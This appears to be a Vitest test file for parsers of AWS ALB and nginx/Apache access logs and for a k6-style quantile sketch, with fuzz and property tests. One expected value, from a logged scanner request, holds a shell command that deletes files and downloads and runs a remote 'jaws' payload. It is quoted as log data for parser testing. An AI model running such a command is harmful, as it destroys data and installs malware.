import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ALB_SAMPLES } from "../helpers/shared-data.js";
import { k6Percentile } from "../../analysis/stats/k6-percentile.js";
import {
  parseAlbLogLine,
  parseClfTime,
  parseCombinedLogLine,
  parseRequestLine,
  QuantileSketch,
  reachedTarget,
  readAlbRequestBytes,
  splitLogFields,
  type AlbLogRecord,
} from "../../analysis/access-log.js";

const data = (name: string): URL => new URL(`../../../shared/data/${name}`, import.meta.url);
const lines = (name: string): string[] =>
  readFileSync(data(name), "utf8")
    .split("\n")
    .filter((l) => l !== "");

function parseAll(name: string): AlbLogRecord[] {
  return lines(name).map((line, i) => {
    const r = parseAlbLogLine(line);
    if (!r.ok) throw new Error(`${name} line ${i + 1}: ${r.error}`);
    return r.value;
  });
}

describe("splitLogFields", () => {
  it("keeps spaces inside quotes, unescapes, and treats runs of spaces as one", () => {
    expect(splitLogFields('a "b c"  - "" "x\\"y"')).toEqual({
      ok: true,
      value: ["a", "b c", "-", "", 'x"y'],
    });
  });
  it("refuses an unclosed quote and a quote glued to the next field", () => {
    expect(splitLogFields('a "b c').ok).toBe(false);
    expect(splitLogFields('a "b"c').ok).toBe(false);
  });
});

describe("parseRequestLine", () => {
  it("splits method, URL (spaces kept) and protocol", () => {
    expect(parseRequestLine("GET http://h:80/a b HTTP/1.1")).toEqual({
      method: "GET",
      url: "http://h:80/a b",
      protocol: "HTTP/1.1",
    });
    expect(parseRequestLine("- http://myalb:80- -")).toEqual({
      method: null,
      url: "http://myalb:80-",
      protocol: null,
    });
  });
});

describe("parseAlbLogLine on every sample in shared/data/alb", () => {
  it("reads the 7 AWS documentation entries (the 25-field layout)", () => {
    const records = parseAll("alb/aws-docs-alb-examples.log");
    expect(records).toHaveLength(7);
    expect(records.map((r) => r.fieldCount)).toEqual([25, 25, 25, 25, 25, 25, 25]);
    expect(records.map((r) => r.type)).toEqual([
      "http",
      "https",
      "h2",
      "ws",
      "wss",
      "http",
      "http",
    ]);
    const [http, https, , , , lambdaOk, lambdaFailed] = records;
    expect(http!.arrivalMs).toBe(Date.parse("2018-07-02T22:22:48.364Z"));
    // Truncated to the millisecond, as Elastic's ALB pipeline writes it (rounding: .187).
    expect(http!.timeMs).toBe(Date.parse("2018-07-02T22:23:00.186Z"));
    expect(http!.target).toBe("10.0.0.1:80");
    expect(http!.request).toEqual({
      method: "GET",
      url: "http://www.example.com:80/",
      protocol: "HTTP/1.1",
    });
    expect(https!.actionsExecuted).toEqual(["authenticate", "forward"]);
    expect(https!.targetProcessingTime).toBe(0.048);
    expect(https!.domainName).toBe("www.example.com");
    expect(https!.connTraceId).toBeNull();
    // Lambda targets are logged as "-" but did answer.
    expect(lambdaOk!.target).toBeNull();
    expect(lambdaOk!.targetProcessingTime).toBe(0.001);
    expect(reachedTarget(lambdaOk!)).toBe(true);
    expect(lambdaFailed!.elbStatusCode).toBe(502);
    expect(lambdaFailed!.targetStatusCode).toBeNull();
    expect(lambdaFailed!.errorReason).toBe("LambdaInvalidResponse");
  });

  it("reads Elastic's lines: target lists, classification, -1 timings, a space in the URL", () => {
    const [first, scanner, noRequest] = parseAll("alb/elastic-integrations-test-alb.log");
    expect(first!.fieldCount).toBe(29);
    expect(first!.targetPortList).toBe("10.0.0.1:80");
    expect(first!.targetStatusCodeList).toBe("200");
    expect(scanner!.fieldCount).toBe(29);
    expect(scanner!.request.url).toBe(
      "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
    );
    expect(scanner!.userAgent).toBe("Hello, world");
    expect(scanner!.requestProcessingTime).toBeNull();
    expect(scanner!.targetProcessingTime).toBeNull();
    expect(scanner!.elbStatusCode).toBe(301);
    expect(scanner!.classification).toBe("Acceptable");
    expect(scanner!.classificationReason).toBe("SpaceInUri");
    expect(reachedTarget(scanner!)).toBe(false);
    expect(noRequest!.fieldCount).toBe(30);
    expect(noRequest!.connTraceId).toBe("TID_00000000000000000000000000000000");
    expect(noRequest!.matchedRulePriority).toBeNull();
    expect(noRequest!.request.method).toBeNull();
  });

  it("reads the nawab312 lines: two 400s without a request line, one forward", () => {
    const records = parseAll("alb/nawab312-real-alb.log");
    expect(records).toHaveLength(3);
    expect(records.filter((r) => r.request.method === null)).toHaveLength(2);
    expect(records.map((r) => r.elbStatusCode)).toEqual([400, 400, 304]);
    expect(records.map(reachedTarget)).toEqual([false, false, true]);
    expect(records[2]!.userAgent).toBe(
      "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
    );
  });

  it("reads the dmastrop stress test: 23 requests over 1.7 s, each to a different target", () => {
    const records = parseAll("alb/dmastrop-tomcat-alb-50-targets.log");
    expect(records).toHaveLength(23);
    expect(records.every((r) => r.fieldCount === 30 && r.connTraceId!.startsWith("TID_"))).toBe(
      true,
    );
    expect(new Set(records.map((r) => r.target)).size).toBe(23);
    const arrivals = records.map((r) => r.arrivalMs);
    expect(new Date(Math.min(...arrivals)).toISOString()).toBe("2025-04-08T00:42:18.715Z");
    expect(new Date(Math.max(...arrivals)).toISOString()).toBe("2025-04-08T00:42:20.443Z");
    expect(Math.max(...arrivals) - Math.min(...arrivals)).toBe(1728);
  });

  it("ignores fields it does not know and falls back to time minus processing for old layouts", () => {
    const line = lines("alb/aws-docs-alb-examples.log")[1]!;
    const newer = parseAlbLogLine(
      `${line} "a:1" "200" "-" "-" TID_x "host" "/uri" "rewritten" extra`,
    );
    expect(newer.ok && newer.value.connTraceId).toBe("TID_x");
    // The 2016 layout ends at trace_id (18 fields): no request_creation_time.
    const old = parseAlbLogLine(
      'http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354"',
    );
    expect(old.ok && old.value.fieldCount).toBe(18);
    expect(old.ok && old.value.requestCreationTimeMs).toBeNull();
    // time (…00.186641 truncated to .186) minus the 0.001 s of processing.
    expect(old.ok && old.value.arrivalMs).toBe(Date.parse("2018-07-02T22:23:00.185Z"));
  });

  it("says why a line is bad", () => {
    expect(parseAlbLogLine("http 2018-07-02T22:23:00Z app/x")).toMatchObject({ ok: false });
    const line = lines("alb/aws-docs-alb-examples.log")[0]!;
    expect(parseAlbLogLine(line.replace("0.001", "fast"))).toEqual({
      ok: false,
      error: '"fast" is not a processing time',
    });
    expect(parseAlbLogLine(line.replace("2018-07-02T22:23:00.186641Z", "yesterday")).ok).toBe(
      false,
    );
  });
});

describe("parseCombinedLogLine", () => {
  it("reads all 14,575 nginx lines", () => {
    const all = lines("nginx/nginx_logs.elastic-examples.first14575.log");
    expect(all).toHaveLength(14575);
    const records = all.map((l) => parseCombinedLogLine(l));
    expect(records.every((r) => r.ok)).toBe(true);
    const first = records[0]!;
    expect(first.ok && first.value).toMatchObject({
      remoteAddr: "93.180.71.3",
      timeMs: Date.parse("2015-05-17T08:05:32Z"),
      status: 304,
      bodyBytesSent: 0,
      referer: null,
      userAgent: "Debian APT-HTTP/1.3 (0.8.16~exp12ubuntu10.21)",
    });
  });

  it("reads the Apache log except line 8899, whose user agent quote is not closed", () => {
    const all = lines("nginx/apache_logs.elastic-examples.combined.log");
    expect(all).toHaveLength(10000);
    const bad = all.flatMap((l, i) => {
      const r = parseCombinedLogLine(l);
      return r.ok ? [] : [{ line: i + 1, error: r.error }];
    });
    expect(bad).toEqual([{ line: 8899, error: "has a quoted field that is not closed" }]);
    const statuses = all
      .map((l) => parseCombinedLogLine(l))
      .flatMap((r) => (r.ok ? [r.value.status] : []));
    expect(statuses.filter((s) => s === 500)).toHaveLength(3);
  });

  it("reads the common format, FireLens JSON records and escaped quotes", () => {
    expect(
      parseCombinedLogLine('1.2.3.4 - bob [01/Jan/2024:00:00:00 -0130] "GET / HTTP/1.0" 503 -'),
    ).toMatchObject({
      ok: true,
      value: {
        remoteUser: "bob",
        status: 503,
        bodyBytesSent: null,
        timeMs: Date.parse("2024-01-01T01:30:00Z"),
      },
    });
    const line =
      '10.0.0.1 - - [17/May/2015:10:05:03 +0000] "GET /a\\"b HTTP/1.1" 200 12 "-" "x \\"y\\""';
    const fireLens = JSON.stringify({ container_id: "abc", source: "stdout", log: `${line}\n` });
    const r = parseCombinedLogLine(fireLens);
    expect(r.ok && r.value.request.url).toBe('/a"b');
    expect(r.ok && r.value.userAgent).toBe('x "y"');
    expect(parseCombinedLogLine('{"message":"no log field"}').ok).toBe(false);
  });

  it("reads Apache's vhost_combined (Debian's other_vhosts_access.log) like combined, with the virtual host and port", () => {
    // The research note's case 12: Debian's `LogFormat "%v:%p %h %l %u %t \"%r\" %>s %O …" vhost_combined`.
    const line =
      'www.example.com:443 203.0.113.7 - - [04/Dec/2026:15:55:01 +0000] "GET /api/items?id=42 HTTP/1.1" 200 1534 "https://www.example.com/" "k6/2.3.0 (https://k6.io/)"';
    const vhost = parseCombinedLogLine(line);
    expect(vhost).toEqual({
      ok: true,
      value: {
        virtualHost: "www.example.com",
        port: 443,
        remoteAddr: "203.0.113.7",
        remoteUser: null,
        timeMs: Date.parse("2026-12-04T15:55:01Z"),
        request: { method: "GET", url: "/api/items?id=42", protocol: "HTTP/1.1" },
        status: 200,
        bodyBytesSent: 1534,
        referer: "https://www.example.com/",
        userAgent: "k6/2.3.0 (https://k6.io/)",
      },
    });
    // The same request in combined: every field alike but the virtual host and port.
    const combined = parseCombinedLogLine(line.slice("www.example.com:443 ".length));
    expect(combined.ok && { ...combined.value, virtualHost: "www.example.com", port: 443 }).toEqual(
      vhost.ok && vhost.value,
    );
    // Every real combined line of the samples still reads as combined.
    for (const l of lines("nginx/apache_logs.elastic-examples.combined.log").slice(0, 200)) {
      const r = parseCombinedLogLine(l);
      if (r.ok) expect(r.value.virtualHost).toBeNull();
    }
  });

  it("parses $time_local and refuses impossible dates", () => {
    expect(parseClfTime("17/May/2015:10:05:03 +0000")).toBe(Date.parse("2015-05-17T10:05:03Z"));
    expect(parseClfTime("17/May/2015:10:05:03 +0200")).toBe(Date.parse("2015-05-17T08:05:03Z"));
    // A fraction (nginx $msec-style logs) truncates to the millisecond, as ISO times do.
    expect(parseClfTime("17/May/2015:10:05:03.9996 +0000")).toBe(
      Date.parse("2015-05-17T10:05:03.999Z"),
    );
    expect(parseClfTime("31/Feb/2015:10:05:03 +0000")).toBeNull();
    expect(parseClfTime("17/Foo/2015:10:05:03 +0000")).toBeNull();
  });
});

describe("QuantileSketch", () => {
  it("answers the same after merging the counts of pieces as after one pass (fast-check)", () => {
    const value = fc.oneof(fc.constant(0), fc.double({ min: 1e-4, max: 100, noNaN: true }));
    fc.assert(
      fc.property(fc.array(value, { maxLength: 200 }), fc.nat(200), (xs, cut) => {
        const one = new QuantileSketch();
        for (const x of xs) one.add(x);
        const a = new QuantileSketch();
        const b = new QuantileSketch();
        xs.forEach((x, i) => (i < cut ? b : a).add(x));
        b.addCounts(a.counts());
        expect(b.count).toBe(one.count);
        for (const q of [0, 0.5, 0.95, 1])
          expect(Object.is(b.quantile(q), one.quantile(q))).toBe(true);
      }),
      { numRuns: 300 },
    );
    expect(() => new QuantileSketch(0.02).addCounts(new QuantileSketch().counts())).toThrow(
      /same relative accuracy/,
    );
  });

  it("matches numpy.quantile(range(1, 101), q) (method 'linear', k6's), exactly and from its buckets within 1 %", () => {
    // numpy.quantile(np.arange(1, 101), [0.95, 0.5, 1, 0, 0.9]) → 95.05, 50.5, 100, 1, 90.1
    const want: [number, number][] = [
      [0.95, 95.05],
      [0.5, 50.5],
      [1, 100],
      [0, 1],
      [0.9, 90.1],
    ];
    const exact = new QuantileSketch();
    const buckets = new QuantileSketch(0.01, 0);
    for (let x = 1; x <= 100; x++) {
      exact.add(x);
      buckets.add(x);
    }
    expect(exact.count).toBe(100);
    for (const [q, v] of want) {
      expect(exact.quantile(q)).toBeCloseTo(v, 10);
      expect(Math.abs(buckets.quantile(q) - v) / v).toBeLessThan(0.01);
    }
    // The ends are exact from the buckets too.
    expect(buckets.quantile(0)).toBe(1);
    expect(buckets.quantile(1)).toBe(100);
  });

  it("gives k6's p(95) of a step with few requests, not the order statistic below it", () => {
    // Step 22:22 of the AWS docs ALB sample: target processing times 1, 48, 2, 3, 1 ms. k6
    // interpolates between ranks 3 and 4 of 0 … 4 (3 ms and 48 ms) at 3.8: 3 + 45 × 0.8 = 39 ms.
    // The sketch read the order statistic at rank ⌊3.8⌋, 3 ms, below the mean of 11 ms.
    const s = new QuantileSketch();
    for (const ms of [1, 48, 2, 3, 1]) s.add(ms);
    expect(s.quantile(0.95)).toBeCloseTo(39, 10);
    expect(s.quantile(0.95)).toBe(k6Percentile([1, 1, 2, 3, 48], 0.95));
    // From the buckets alone: within 1 %, never below the mean as it was.
    const b = new QuantileSketch(0.01, 0);
    for (const ms of [1, 48, 2, 3, 1]) b.add(ms);
    expect(Math.abs(b.quantile(0.95) - 39) / 39).toBeLessThan(0.01);
  });

  it("is k6's percentile exactly up to exactValues values, within α of it past that (fast-check)", () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constant(0), fc.double({ min: 0, max: 60, noNaN: true })), {
          minLength: 1,
          maxLength: 300,
        }),
        fc.double({ min: 0, max: 1, noNaN: true }),
        fc.constantFrom(0, 5, 128),
        (values, q, exactValues) => {
          const s = new QuantileSketch(0.01, exactValues);
          values.forEach((v) => s.add(v));
          const k6 = k6Percentile(
            [...values].sort((a, b) => a - b),
            q,
          );
          const got = s.quantile(q);
          if (values.length <= exactValues) return got === k6;
          return Math.abs(got - k6) <= 0.0100001 * k6;
        },
      ),
    );
  });

  it("keeps its values across merges exactly when one sketch of them all would (fast-check)", () => {
    fc.assert(
      fc.property(
        fc.array(fc.double({ min: 1e-4, max: 100, noNaN: true }), { maxLength: 20 }),
        fc.array(fc.nat(20), { maxLength: 4 }),
        (xs, cuts) => {
          const one = new QuantileSketch(0.01, 8);
          xs.forEach((x) => one.add(x));
          const bounds = [0, ...[...cuts].sort((a, b) => a - b), xs.length];
          const merged = new QuantileSketch(0.01, 8);
          for (let i = 0; i + 1 < bounds.length; i++) {
            const piece = new QuantileSketch(0.01, 8);
            xs.slice(bounds[i], bounds[i + 1]).forEach((x) => piece.add(x));
            merged.addCounts(piece.counts());
          }
          expect(merged.counts().values === null).toBe(one.counts().values === null);
          for (const q of [0, 0.5, 0.95, 1])
            expect(Object.is(merged.quantile(q), one.quantile(q))).toBe(true);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("is NaN when empty and ignores negative values", () => {
    const s = new QuantileSketch();
    s.add(-1);
    expect(s.quantile(0.95)).toBeNaN();
    expect(() => new QuantileSketch(0)).toThrow("`QuantileSketch` requires a relative accuracy");
  });
});

describe("the parsers never throw", () => {
  it("returns a Result for any text", () => {
    const albish = fc
      .array(
        fc.oneof(
          fc.string(),
          fc.constantFrom("-", "-1", '"', "http", "2018-07-02T22:23:00Z", "200", "0.001"),
        ),
        {
          maxLength: 35,
        },
      )
      .map((parts) => parts.join(" "));
    fc.assert(
      fc.property(fc.oneof(fc.string(), albish), (text) => {
        const a = parseAlbLogLine(text);
        const b = parseCombinedLogLine(text);
        return typeof a.ok === "boolean" && typeof b.ok === "boolean";
      }),
      { numRuns: 2000 },
    );
  });
});

const encoder = new TextEncoder();
/** readAlbRequestBytes of a line's UTF-8 bytes, copied (the reader reuses its result). */
function readAlbRequest(line: string) {
  const bytes = encoder.encode(line);
  const r = readAlbRequestBytes(bytes, 0, bytes.length);
  return r === null ? null : { ...r };
}

describe("readAlbRequestBytes, the importer's fast path", () => {
  /** What the importer takes from parseAlbLogLine, or null when it refuses the line. */
  const slow = (line: string) => {
    const r = parseAlbLogLine(line);
    if (!r.ok) return null;
    const v = r.value;
    return {
      arrivalMs: v.arrivalMs,
      elb: v.elb,
      reachedTarget: reachedTarget(v),
      targetProcessingTime: v.targetProcessingTime,
      elbStatusCode: v.elbStatusCode,
      targetStatusCode: v.targetStatusCode,
    };
  };
  const samples = ALB_SAMPLES.flatMap(lines);

  it("reads every real sample line as parseAlbLogLine does", () => {
    expect(samples.length).toBeGreaterThan(30);
    let read = 0;
    for (const line of samples) {
      const fast = readAlbRequest(line);
      if (fast !== null) read++;
      if (fast !== null || slow(line) !== null) expect(fast).toEqual(slow(line));
    }
    // The fast path takes every plain line; the ones it leaves are the ones with escapes.
    expect(read).toBeGreaterThanOrEqual(samples.filter((l) => !l.includes("\\")).length - 1);
  });

  it("never accepts a line parseAlbLogLine refuses, and agrees on the values (fuzzed)", () => {
    const field = fc.oneof(
      fc.constantFrom(
        "-",
        "-1",
        "",
        '""',
        "1.",
        ".5",
        "0.000",
        "007",
        "1.2.3",
        "12345678901234567",
      ),
      fc.constantFrom(
        "200",
        "503",
        "0.001",
        "2.5",
        "-",
        "x",
        '"a b"',
        '"q\\"x"',
        "\t",
        "a\\b",
        '"\\\\"',
      ),
      fc.constantFrom(
        "2018-07-02T22:23:00.186641Z",
        "2018-07-02T22:23:00Z",
        "2018-13-02T00:00:00Z",
      ),
      fc.stringMatching(/^[0-9.]{1,18}$/),
      fc.string({ maxLength: 6 }),
    );
    const mutated = fc
      .tuple(fc.constantFrom(...samples), fc.array(fc.tuple(fc.nat(40), field), { maxLength: 3 }))
      .map(([line, edits]) => {
        const parts = splitLogFields(line);
        if (!parts.ok) return line;
        const f = parts.value.map((x) => (/[\s"]/.test(x) || x === "" ? `"${x}"` : x));
        for (const [at, value] of edits) f[at % (f.length + 1)] = value;
        return f.join(" ");
      });
    let accepted = 0;
    let refused = 0;
    fc.assert(
      fc.property(mutated, (line) => {
        const fast = readAlbRequest(line);
        if (fast !== null) {
          accepted++;
          expect(fast).toEqual(slow(line));
        } else if (slow(line) === null) refused++;
      }),
      { numRuns: 3000 },
    );
    // Both kinds of line were tried.
    expect(accepted).toBeGreaterThan(300);
    expect(refused).toBeGreaterThan(300);
  });

  it("reads bytes outside ASCII and bytes that are not UTF-8 as the decoded line reads (fuzzed)", () => {
    // The importer decodes a line only when the byte reader gives up: whatever bytes a line
    // holds, a value it returns must be what parseAlbLogLine returns for the decoded text.
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    const insert = fc.oneof(
      fc.constantFrom(0x20, 0x22, 0x5c, 0x09, 0x0d, 0x2d, 0x30, 0x2e, 0x5a),
      fc.integer({ min: 0x80, max: 0xff }),
      fc.constantFrom(0xc2, 0xa0, 0xef, 0xbb, 0xbf, 0xe2, 0x80, 0xa8),
    );
    const mutated = fc
      .tuple(
        fc.constantFrom(...samples),
        fc.array(fc.tuple(fc.nat(600), fc.array(insert, { minLength: 1, maxLength: 3 })), {
          maxLength: 3,
        }),
      )
      .map(([line, edits]) => {
        let bytes = [...encoder.encode(line)];
        for (const [at, more] of edits) {
          const i = at % (bytes.length + 1);
          bytes = [...bytes.slice(0, i), ...more, ...bytes.slice(i)];
        }
        return Uint8Array.from(bytes);
      });
    let accepted = 0;
    let refused = 0;
    fc.assert(
      fc.property(mutated, (bytes) => {
        const fast = readAlbRequestBytes(bytes, 0, bytes.length);
        const text = decoder.decode(bytes);
        if (fast !== null) {
          accepted++;
          expect({ ...fast }).toEqual(slow(text));
        } else if (slow(text) === null) refused++;
      }),
      { numRuns: 3000 },
    );
    expect(accepted).toBeGreaterThan(300);
    expect(refused).toBeGreaterThan(300);
  });

  it("reads a line inside a larger buffer from its start to its end only", () => {
    const line = samples.find((l) => l.startsWith("https "))!;
    const body = encoder.encode(line);
    const head = encoder.encode('x "y ');
    // An unclosed quote before and after it: read past its ends, the line would be bad.
    const bytes = Uint8Array.from([...head, ...body, 0x0d, 0x0a, ...encoder.encode('"z')]);
    const r = readAlbRequestBytes(bytes, head.length, head.length + body.length);
    expect(r).not.toBeNull();
    expect(r === null ? null : { ...r }).toEqual(slow(line));
  });

  it("reads times in the minute it remembers as parseIsoTime does, valid or not (fast-check)", () => {
    // readAlbRequestBytes keeps the minute of the last time it parsed fully and reads the next
    // times of that minute from their seconds and fraction alone: sequences of lines whose
    // times share (or nearly share) a minute, in both time fields.
    const minutes = [
      "2024-02-29T23:59",
      "2024-02-29T23:58",
      "2023-02-29T23:59",
      "2024-02-29T24:00",
    ];
    const tails = [
      ":00Z",
      ":59.9996Z",
      ":60Z",
      ":61Z",
      ":5Z",
      ":07.Z",
      ":07.1Z",
      ":07.123456789Z",
      ":07.1234567890Z",
      ":07.12a4Z",
      ":07.123z",
      ":07+00:00",
      ":07.5-01:00",
    ];
    const time = fc
      .tuple(fc.constantFrom(...minutes), fc.constantFrom(...tails))
      .map(([m, t]) => m + t);
    const template = splitLogFields(samples.find((l) => l.startsWith("https "))!);
    if (!template.ok) throw new Error("no https sample");
    const line = fc.tuple(time, time).map(([done, created]) => {
      const f = template.value.map((x) => (/[\s"]/.test(x) || x === "" ? `"${x}"` : x));
      f[1] = done;
      f[21] = created;
      return f.join(" ");
    });
    let accepted = 0;
    fc.assert(
      fc.property(fc.array(line, { minLength: 1, maxLength: 30 }), (lines) => {
        for (const l of lines) {
          const fast = readAlbRequest(l);
          if (fast !== null) accepted++;
          if (fast !== null || slow(l) !== null) expect(fast).toEqual(slow(l));
        }
      }),
      { numRuns: 300 },
    );
    expect(accepted).toBeGreaterThan(100);
  });
});
